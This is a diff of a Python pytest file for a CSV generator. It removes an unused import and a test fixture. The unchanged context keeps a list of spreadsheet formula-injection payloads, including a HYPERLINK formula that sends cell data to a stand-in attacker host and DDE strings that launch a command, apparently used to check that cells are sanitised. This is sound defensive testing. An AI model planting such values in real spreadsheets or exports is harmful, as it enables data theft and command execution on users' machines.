@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 from pathlib import Path
 
 import pytest
@@ -19,7 +18,6 @@ from generator.load.agency import load_agency
 from generator.opendata.tables import csv_cell as published_csv_cell
 from generator.registry import KINDS
 from generator.values.csv_cells import csv_cell, looks_like_formula, read_cell
-from tests.conftest import FIXTURES
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
@@ -53,14 +51,6 @@ def _sheet(tmp_path: Path, title: str, winner: str, reason: str, contract: str,
     path = tmp_path / "sheet.csv"
     path.write_text(out.getvalue(), encoding="utf-8")
     return path
-
-
-@pytest.fixture
-def agency_dir(tmp_path: Path) -> Path:
-    root = tmp_path / "agency"
-    root.mkdir()
-    shutil.copy2(FIXTURES / "procurement/agency/site_config.yml", root / "site_config.yml")
-    return root
 
 
 @pytest.mark.parametrize("payload", HOSTILE)
